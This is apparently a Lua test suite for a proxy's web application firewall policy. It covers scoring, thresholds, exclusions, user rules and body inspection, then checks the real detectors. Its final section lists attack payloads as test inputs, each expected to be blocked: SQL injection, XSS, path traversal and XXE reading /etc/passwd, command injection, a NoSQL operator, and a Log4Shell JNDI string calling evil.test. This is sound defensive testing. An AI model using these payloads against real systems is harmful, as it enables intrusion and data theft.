-- mg.policy.waf on the real binary. Two parts:
--  * the policy (scoring, threshold, paranoia, modes, exclusions, user rules,
--    bodies, the access log's `policy` and `waf` fields, req.ctx.waf, config
--    errors) with a stand-in detector defined here (package.preload in the
--    config), whose rule ids and severities are fixed, so these specs say what
--    the policy does with hits whatever the real detectors find; with 1 and with
--    2 workers;
--  * the real detectors (moongate.waf.detect): attacks in each place of a request
--    refused 403 by `mg.policy.waf {}`, benign look-alikes passed.
local helpers = require "spec.helpers"

-- The stand-in: EVIL5 / EVIL3 / EVIL2 in a value are rules 900005 / 900003 /
-- 900002 of that severity, PL2 a severity-5 rule at paranoia 2 (900020), "../"
-- in the path rule 930100, a body that did not parse 920130 (severity 3),
-- too many values 920380 (3), SPLIT in the whole query string 900007 (5) and in
-- the whole Cookie header 900008 (5).
local STUB = [[
package.preload["moongate.waf.detect"] = function()
  local M = { rules = { [900005] = { id = 900005, severity = 5, pl = 1 } } }
  local E = {}
  E.__index = E
  function M.new(o) return setmetatable({ paranoia = o.paranoia }, E) end
  local function hit(hits, id, sev, pl, var, v)
    hits[#hits + 1] = { id = id, severity = sev, pl = pl, msg = "stub", var = var, match = v:sub(1, 64) }
  end
  function E:value(v, var, where, hits)
    if v:find("EVIL5", 1, true) then hit(hits, 900005, 5, 1, var, v) end
    if v:find("EVIL3", 1, true) then hit(hits, 900003, 3, 1, var, v) end
    if v:find("EVIL2", 1, true) then hit(hits, 900002, 2, 1, var, v) end
    if self.paranoia >= 2 and v:find("PL2", 1, true) then hit(hits, 900020, 5, 2, var, v) end
    if (where == "path" or where == "path_raw") and v:find("../", 1, true) then hit(hits, 930100, 5, 1, var, v) end
  end
  function E:request(info, hits)
    if info.body_error then hit(hits, 920130, 3, 1, "REQUEST_BODY", info.body_error) end
    if info.too_many then hit(hits, 920380, 3, 1, "ARGS", "too many") end
    -- what the detectors find in the whole query string or Cookie header
    if info.query and info.query:find("SPLIT", 1, true) then hit(hits, 900007, 5, 1, "QUERY_STRING", info.query) end
    for _, h in ipairs(info.headers) do
      if h[1] == "cookie" and h[2]:find("SPLIT", 1, true) then hit(hits, 900008, 5, 1, "REQUEST_HEADERS:Cookie", h[2]) end
    end
  end
  return M
end
]]

local CONF = [[
dofile("${stub}")
local mg = require "moongate"
mg.config { workers = ${workers}, access_log = "access.log", error_log = "error.log" }
mg.listen { "127.0.0.1:${port}" }
local o = mg.upstream "o" { servers = { "${origin}" } }
mg.route { path = "/pl2/", upstream = o, use = { mg.policy.waf { paranoia = 2 } } }
mg.route { path = "/t10/", upstream = o, use = { mg.policy.waf { threshold = 10 } } }
mg.route { path = "/det/", upstream = o, use = { mg.policy.waf { mode = "detect" } } }
mg.route { path = "/ctx/", use = { mg.policy.waf { mode = "detect" } }, respond = function(req)
  local w = req.ctx.waf
  if not w then return 200, "none\n" end
  local ids = {}
  for i, h in ipairs(w.hits) do ids[i] = h.id .. "@" .. h.var end
  return 200, w.score .. " " .. table.concat(ids, ",") .. "\n"
end }
mg.route { path = "/ex/", upstream = o, use = { mg.policy.waf { exclude = {
  { rule = 900005, var = "ARGS:comment" }, { rule = "9000*", var = "ARGS:code*" },
  { var = "REQUEST_COOKIES:*" }, { rule = 930100 }, { var = "ARGS:note" } } } } }
mg.route { path = "/user/", upstream = o, use = { mg.policy.waf { rules = {
  { id = 100001, vars = { "ARGS:q" }, match = function(v, var, req) return v == "forbidden-" .. req.method end },
  { id = 100002, severity = "warning", pattern = "^admin[0-9]+$" },
  { id = 100003, match = function(v) if v == "boom" then error("rule broke") end return false end },
  { id = 100004, pl = 2, match = function(v) return v == "pl2-only" end },
} } } }
mg.route { path = "/small/", upstream = o, use = { mg.policy.waf { body_limit = "1k", over_limit = "pass" } } }
mg.route { path = "/buf/", upstream = o, buffer_body = "4k", use = { mg.policy.waf { over_limit = "pass" } } }
mg.route { path = "/st/", upstream = o, use = { mg.policy.waf { status = 406 } } }
mg.route { path = "/", upstream = o, use = { mg.policy.waf {} } }
]]

local function run(workers)
  describe("mg.policy.waf with " .. workers .. " worker(s), a stand-in detector", function()
    local origin, proxy
    local n = 0

    lazy_setup(function()
      local dir = helpers.tmpdir()
      helpers.write_file(dir .. "/stub.lua", STUB)
      origin = helpers.origin({ name = "o" })
      proxy = helpers.proxy(CONF, { vars = { origin = origin.addr, stub = dir .. "/stub.lua", workers = workers } })
    end)

    lazy_teardown(function() helpers.teardown(proxy) end)

    -- A request to a fresh path under `prefix` (the access log line is found by
    -- it): the response and the path.
    local function send(prefix, opts)
      n = n + 1
      local path = prefix .. "r" .. n
      local req = { method = opts.method or "GET", path = path .. (opts.query and ("?" .. opts.query) or ""),
                    headers = opts.headers or {}, body = opts.body }
      if opts.ctype then req.headers["Content-Type"] = opts.ctype end
      local c = helpers.connect(proxy.port)
      local res = assert(c:request(req))
      c:close()
      return res, path
    end

    local function log_line(path)
      local found
      helpers.wait_until(function()
        for l in helpers.lines(proxy:file("access.log") or "") do
          if l:find('"path":"' .. path .. '"', 1, true) then found = l return true end
        end
      end, 3)
      return assert(found, "no access log line for " .. path)
    end

    local function refused(res, path, ids)
      assert.equal(403, res.status, res.body)
      assert.equal("Forbidden\n", res.body)
      local l = log_line(path)
      assert.truthy(l:find('"policy":"waf"', 1, true), l)
      assert.truthy(l:find('"waf":"' .. ids .. '"', 1, true), l)
      assert.equal(0, origin:count_path(path))
    end

    local function passed(res, path, ids)
      assert.equal(200, res.status, res.body)
      local l = log_line(path)
      assert.falsy(l:find('"policy"', 1, true), l)
      if ids then assert.truthy(l:find('"waf":"' .. ids .. '"', 1, true), l)
      else assert.falsy(l:find('"waf"', 1, true), l) end
    end

    it("a clean request goes to the origin; no waf field in the access log", function()
      local res, path = send("/a/", { query = "q=red+shoes&page=2" })
      passed(res, path)
      assert.equal(1, origin:count_path(path .. "?q=red+shoes&page=2"))
    end)

    local MP = "--BB\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nnotes\r\n"
      .. "--BB\r\nContent-Disposition: form-data; name=\"text\"\r\n\r\nx EVIL5 y\r\n--BB--\r\n"
    local places = {
      { "query", { query = "q=EVIL5" } },
      { "query name", { query = "EVIL5=1" } },
      { "path", { query = nil, sub = "EVIL5/" } },
      { "header User-Agent", { headers = { ["User-Agent"] = "curl EVIL5" } } },
      { "cookie", { headers = { Cookie = "sid=1; pref=EVIL5" } } },
      { "form body", { method = "POST", ctype = "application/x-www-form-urlencoded", body = "name=sam&comment=a+EVIL5" } },
      { "JSON body", { method = "POST", ctype = "application/json", body = '{"a":{"b":[1,"EVIL5"]}}' } },
      { "JSON key", { method = "POST", ctype = "application/json", body = '{"EVIL5":1}' } },
      { "multipart body", { method = "POST", ctype = "multipart/form-data; boundary=BB", body = MP } },
      { "XML body", { method = "POST", ctype = "application/xml", body = "<a><b k='EVIL5'/></a>" } },
      { "text body", { method = "POST", ctype = "text/plain", body = "hello EVIL5" } },
    }
    for _, p in ipairs(places) do
      it("a critical hit in the " .. p[1] .. " is refused 403 (policy waf, rule id logged), the origin not asked", function()
        local res, path = send("/" .. (p[2].sub or ""), p[2])
        refused(res, path, "900005")
      end)
    end

    it("the path as received: '../' is seen before normalization", function()
      local c = helpers.connect(proxy.port)
      n = n + 1
      local res = assert(c:request({ path = "/x/../up" .. n }))
      c:close()
      refused(res, "/up" .. n, "930100")
    end)

    it("each rule id counts once: two severity-3 hits of one rule (score 3) pass, 3 + 2 (score 5) is refused", function()
      local res, path = send("/a/", { query = "a=EVIL3&b=EVIL3" })
      passed(res, path, "900003")
      res, path = send("/a/", { query = "a=EVIL3&b=EVIL2" })
      refused(res, path, "900003,900002")
    end)

    it("threshold = 10: one critical hit passes, 5 + 3 + 2 is refused", function()
      local res, path = send("/t10/", { query = "a=EVIL5" })
      passed(res, path, "900005")
      res, path = send("/t10/", { query = "a=EVIL5&b=EVIL3&c=EVIL2" })
      refused(res, path, "900005,900003,900002")
    end)

    it("paranoia: a PL2 rule does not fire at PL1, does at paranoia = 2", function()
      local res, path = send("/a/", { query = "a=PL2" })
      passed(res, path)
      res, path = send("/pl2/", { query = "a=PL2" })
      refused(res, path, "900020")
    end)

    it("status = 406 answers that instead of 403", function()
      local res = send("/st/", { query = "a=EVIL5" })
      assert.equal(406, res.status)
    end)

    it("detect mode passes, logs 'waf: would refuse (score N): id var \"excerpt\"' and the ids in the access log", function()
      local res, path = send("/det/", { query = "q=EVIL5&x=EVIL2" })
      passed(res, path, "900005,900002")
      assert.equal(1, origin:count_path(path .. "?q=EVIL5&x=EVIL2"))
      local line
      helpers.wait_until(function()
        for l in helpers.lines(proxy:file("error.log") or "") do
          if l:find("waf: would refuse (score 7): 900005 ARGS:q \"EVIL5\"; 900002 ARGS:x \"EVIL2\"", 1, true) then
            line = l return true
          end
        end
      end, 3)
      assert.truthy(line, proxy:file("error.log"))
      -- under the threshold: no line
      res, path = send("/det/", { query = "q=EVIL3here" })
      passed(res, path, "900003")
      assert.falsy((proxy:file("error.log") or ""):find("EVIL3here", 1, true))
    end)

    it("req.ctx.waf: the score and the counted hits (id@var) for later hooks; absent when nothing matched", function()
      local res = send("/ctx/", { method = "POST", ctype = "application/json", body = '{"a":[1,"EVIL5"],"k":"EVIL5"}' })
      assert.equal("5 900005@JSON:$.a[1]\n", res.body)
      res = send("/ctx/", { query = "q=fine" })
      assert.equal("none\n", res.body)
    end)

    it("exclusions: a rule in one variable, a rule prefix in a variable prefix, a whole collection, a rule everywhere", function()
      local res, path = send("/ex/", { query = "comment=EVIL5" })
      passed(res, path)
      res, path = send("/ex/", { query = "other=EVIL5" })
      refused(res, path, "900005")
      res, path = send("/ex/", { query = "code_1=EVIL5&codex=EVIL3" })
      passed(res, path)
      res, path = send("/ex/", { headers = { Cookie = "a=EVIL5; b=EVIL3" } })
      passed(res, path)
      local c = helpers.connect(proxy.port)
      n = n + 1
      res = assert(c:request({ path = "/ex/../ex/z" .. n }))
      c:close()
      passed(res, "/ex/z" .. n)
    end)

    it("exclusions cover what the detectors find in the whole query string or Cookie header", function()
      local res, path = send("/ex/", { query = "note=SPLIT&b=1" })
      passed(res, path)
      res, path = send("/ex/", { query = "other=SPLIT&b=1" })
      refused(res, path, "900007")
      res, path = send("/ex/", { headers = { Cookie = "a=SPLIT; b=1" } })
      passed(res, path)
      res, path = send("/a/", { headers = { Cookie = "a=SPLIT; b=1" } })
      refused(res, path, "900008")
    end)

    it("user rules: a function (given the value, its variable and req) limited to vars, a PCRE2 pattern with its severity", function()
      local res, path = send("/user/", { query = "q=forbidden-GET" })
      refused(res, path, "100001")
      res, path = send("/user/", { query = "other=forbidden-GET" })
      passed(res, path)
      res, path = send("/user/", { query = "u=admin42" })
      passed(res, path, "100002") -- a warning: 3
      res, path = send("/user/", { query = "u=admin42&v=EVIL2" })
      refused(res, path, "100002,900002")
      res, path = send("/user/", { query = "u=pl2-only" })
      passed(res, path)
    end)

    it("a user rule that raises is logged, the request goes on", function()
      local res, path = send("/user/", { query = "q=boom" })
      passed(res, path)
      helpers.wait_until(function() return (proxy:file("error.log") or ""):find("waf: rule 100003: ", 1, true) end, 3)
      assert.truthy((proxy:file("error.log") or ""):find("waf: rule 100003: ", 1, true))
    end)

    -- (with over_limit = "refuse", the default, both are refused 413: waf_attack_spec)
    it("body_limit, over_limit = \"pass\": the first body_limit bytes are inspected (refused), past them not (passed, logged)", function()
      local pad = string.rep("x", 2000)
      local res, path = send("/small/", { method = "POST", ctype = "application/x-www-form-urlencoded",
                                          body = "a=EVIL5&pad=" .. pad })
      refused(res, path, "900005")
      res, path = send("/small/", { method = "POST", ctype = "application/x-www-form-urlencoded",
                                    body = "pad=" .. pad .. "&a=EVIL5" })
      passed(res, path)
      helpers.wait_until(function()
        return (proxy:file("error.log") or ""):find("a body of 2012 bytes, inspected the first 1024 (body_limit)", 1, true)
      end, 3)
      assert.truthy((proxy:file("error.log") or ""):find("a body of 2012 bytes, inspected the first 1024 (body_limit)", 1, true))
      -- the origin got all of it
      assert.equal(1, origin:count_path(path))
    end)

    it("a chunked body is read and inspected", function()
      n = n + 1
      local path = "/a/r" .. n
      local c = helpers.connect(proxy.port)
      local res = assert(c:request("POST " .. path .. " HTTP/1.1\r\nHost: t\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        .. "Transfer-Encoding: chunked\r\n\r\n4\r\na=EV\r\n3\r\nIL5\r\n0\r\n\r\n"))
      c:close()
      refused(res, path, "900005")
    end)

    it("over_limit = \"pass\": a body announced over the route's buffer_body is not read: it streams to the origin, logged", function()
      local body = "a=EVIL5&pad=" .. string.rep("x", 8000)
      local res, path = send("/buf/", { method = "POST", ctype = "application/x-www-form-urlencoded", body = body })
      passed(res, path)
      assert.equal(1, origin:count_path(path))
      local want = "a body of 8012 bytes is over the route's buffer_body (4096): not inspected"
      helpers.wait_until(function() return (proxy:file("error.log") or ""):find(want, 1, true) end, 3)
      assert.truthy((proxy:file("error.log") or ""):find(want, 1, true))
      -- one under it is read and inspected
      res, path = send("/buf/", { method = "POST", ctype = "application/x-www-form-urlencoded", body = "a=EVIL5" })
      refused(res, path, "900005")
    end)

    it("a JSON body that does not parse: the detector is told (body_error), its text is still looked at", function()
      local res, path = send("/a/", { method = "POST", ctype = "application/json", body = '{"a": [1, 2 "x"]}' })
      passed(res, path, "920130")
      res, path = send("/a/", { method = "POST", ctype = "application/json", body = '{"a": EVIL5' })
      refused(res, path, "920130,900005")
    end)

    it("a binary body is not read: it streams to the origin", function()
      local res, path = send("/a/", { method = "POST", ctype = "application/octet-stream", body = "EVIL5" })
      passed(res, path)
    end)

    it("10,000 arguments: bounded (too_many), answered: refused, since the values past the bound were not looked at", function()
      local t = {}
      for k = 1, 10000 do t[k] = "a" .. k .. "=v" end
      local res, path = send("/a/", { method = "POST", ctype = "application/x-www-form-urlencoded", body = table.concat(t, "&") })
      refused(res, path, "920380")
    end)
  end)
end

run(1)
run(2)

describe("mg.policy.waf config errors", function()
  local function check(line, stub)
    local dir = helpers.tmpdir()
    helpers.write_file(dir .. "/stub.lua", STUB)
    local path = helpers.write_config(dir, (stub and ('dofile("' .. dir .. '/stub.lua")\n') or "\n")
      .. 'local mg = require "moongate"\n' .. 'mg.use(' .. line .. ')\n' .. 'mg.listen { "127.0.0.1:1" }\n')
    local out, rc = helpers.moongate({ "-t", "-c", path })
    return out, rc, path
  end

  local cases = {
    { 'mg.policy.waf { paranoia = 5 }', "'paranoia' out of range" },
    { 'mg.policy.waf { paranoia = 1.5 }', "'paranoia' must be a whole number" },
    { 'mg.policy.waf { threshold = 0 }', "'threshold' out of range" },
    { 'mg.policy.waf { mode = "log" }', "'mode' must be \"block\" or \"detect\"" },
    { 'mg.policy.waf { status = 200 }', "'status' out of range" },
    { 'mg.policy.waf { body_limit = "1x" }', "'body_limit' must be bytes (a number, or like \"64k\", \"10m\"), got 1x" },
    { 'mg.policy.waf { over_limit = "partial" }', "'over_limit' must be \"refuse\" or \"pass\"" },
    { 'mg.policy.waf { paranioa = 2 }', "unknown key 'paranioa'" },
    { 'mg.policy.waf { exclude = { { rule = "94x" } } }', "exclude[1]: 'rule' must be a rule id" },
    { 'mg.policy.waf { exclude = { { var = "args:q" } } }', "exclude[1]: 'args:q' is not a variable" },
    { 'mg.policy.waf { exclude = { {} } }', "exclude[1]: give 'rule', 'var' or both" },
    { 'mg.policy.waf { exclude = { { rule = 1, vars = "ARGS" } } }', "exclude[1]: unknown key 'vars'" },
    { 'mg.policy.waf { rules = { { id = 1 } } }', "rules[1]: give one of 'match' (a function) or 'pattern'" },
    { 'mg.policy.waf { rules = { { id = 1, pattern = "(" } } }', "rules[1]: bad regular expression '('" },
    { 'mg.policy.waf { rules = { { id = 1, match = print, severity = "high" } } }', "rules[1]: 'severity' must be critical" },
    { 'mg.policy.waf { rules = { { id = 1, match = print }, { id = 1, match = print } } }', "rules[2]: id 1 is used twice" },
    { 'mg.policy.waf { rules = { { id = 900005, match = print } } }', "rules[1]: id 900005 is a built-in rule's" },
    { 'mg.policy.waf { rules = { { id = 1, match = print, phase = "x" } } }', "rules[1]: unknown key 'phase'" },
    { 'mg.policy.waf { rules = { { id = 1, match = print, vars = { "ARGS", 3 } } } }', "rules[1].vars[2]: a variable" },
  }
  for _, c in ipairs(cases) do
    it(c[1] .. " -> " .. c[2], function()
      local out, rc, path = check(c[1], true)
      assert.equal(1, rc, out)
      assert.truthy(out:find("moongate: config error: " .. path .. ":3: mg.policy.waf: ", 1, true), out)
      assert.truthy(out:find(c[2], 1, true), out)
    end)
  end

  it("mg.policy.waf {} is valid as written (with the real detectors)", function()
    local out, rc = check("mg.policy.waf {}", false)
    assert.equal(0, rc, out)
  end)
end)

-- The real detectors: a few clear attacks in each place, refused by
-- mg.policy.waf {} (PL1, threshold 5, blocking); benign look-alikes pass.
describe("mg.policy.waf {} with the real detectors", function()
  local origin, proxy
  lazy_setup(function()
    origin = helpers.origin({ name = "o" })
    proxy = helpers.proxy([[
local mg = require "moongate"
mg.config { workers = 1, access_log = "access.log" }
mg.listen { "127.0.0.1:${port}" }
mg.use(mg.policy.waf {})
mg.route { path = "/", upstream = mg.upstream "o" { servers = { "${origin}" } } }
]], { vars = { origin = origin.addr } })
  end)
  lazy_teardown(function() helpers.teardown(proxy) end)

  local function status(req)
    local c = helpers.connect(proxy.port)
    local res = assert(c:request(req))
    c:close()
    return res.status
  end
  local function form(body) return { method = "POST", path = "/comment", body = body,
    headers = { ["Content-Type"] = "application/x-www-form-urlencoded" } } end
  local function json(body) return { method = "POST", path = "/api", body = body,
    headers = { ["Content-Type"] = "application/json" } } end

  local attacks = {
    { "SQL injection in a query argument", { path = "/search?id=1%27%20OR%20%271%27%3D%271" } },
    { "UNION SELECT in a query argument", { path = "/item?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--" } },
    { "XSS in a form field", form("name=sam&comment=%3Cscript%3Ealert(1)%3C%2Fscript%3E") },
    { "path traversal in the path (seen as received, before normalization)", { path = "/static/../../../etc/passwd" } },
    { "traversal in an argument", { path = "/view?file=../../../../etc/passwd" } },
    { "command injection in a form field", form("host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd") },
    { "NoSQL operator in JSON", json('{"user":"admin","password":{"$ne":null}}') },
    { "Log4Shell in User-Agent", { path = "/", headers = { ["User-Agent"] = "${jndi:ldap://evil.test/a}" } } },
    { "XSS in a cookie", { path = "/", headers = { Cookie = "pref=%3Cscript%3Ealert(1)%3C/script%3E" } } },
    { "XXE in an XML body", { method = "POST", path = "/import", headers = { ["Content-Type"] = "application/xml" },
      body = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' } },
    { "a scanner's User-Agent", { path = "/", headers = { ["User-Agent"] = "sqlmap/1.7.2#stable (https://sqlmap.org)" } } },
  }
  for _, a in ipairs(attacks) do
    it("refuses: " .. a[1], function() assert.equal(403, status(a[2])) end)
  end

  local benign = {
    { "a name with an apostrophe", { path = "/search?q=O%27Brien" } },
    { "prose with SQL words", form("name=sam&comment=Please+select+your+order+from+the+menu%3B+drop+by+anytime") },
    { "a search", { path = "/search?q=red+shoes&color=black&size=9&page=3&sort=price_asc" } },
    { "JSON with command-like values", json('{"command":"select","note":"delete the old one, then update"}') },
    { "a URL as an argument", { path = "/go?next=https%3A%2F%2Fshop.example%2Fcart%3Fid%3D3" } },
  }
  for _, b in ipairs(benign) do
    it("passes: " .. b[1], function() assert.equal(200, status(b[2])) end)
  end
end)
